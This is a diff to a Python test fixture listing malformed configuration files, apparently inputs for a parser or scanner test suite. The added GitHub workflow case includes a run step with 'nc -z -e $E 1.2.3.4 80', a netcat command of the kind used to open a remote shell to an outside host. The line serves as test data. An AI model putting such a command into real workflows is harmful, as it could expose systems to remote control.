@@ -22,6 +22,8 @@ FOUND = {
     "a quote left open in JSON": ("main.tf.json", ' with: {install: "${{ v\njobs:\n'),
     "an event without a name": (".github/workflows/a.yml", "on: {'': a, push: }\njobs: {a: {runs-on: x, steps: [{run: a}]}}\n"),
     "stages without end": ("Dockerfile", "".join(f"FROM a{n - 1} AS a{n}\n" for n in range(1500))),
+    "options whose values nobody knows": (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
+                                          "    - run: |\n        pip install -r $F\n        npm install --prefix $D\n        nc -z -e $E 1.2.3.4 80\n"),
     "a lone surrogate": ("a.json", '{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "\\ud800"}, "spec": 1}'),
 }  # fmt: skip
 
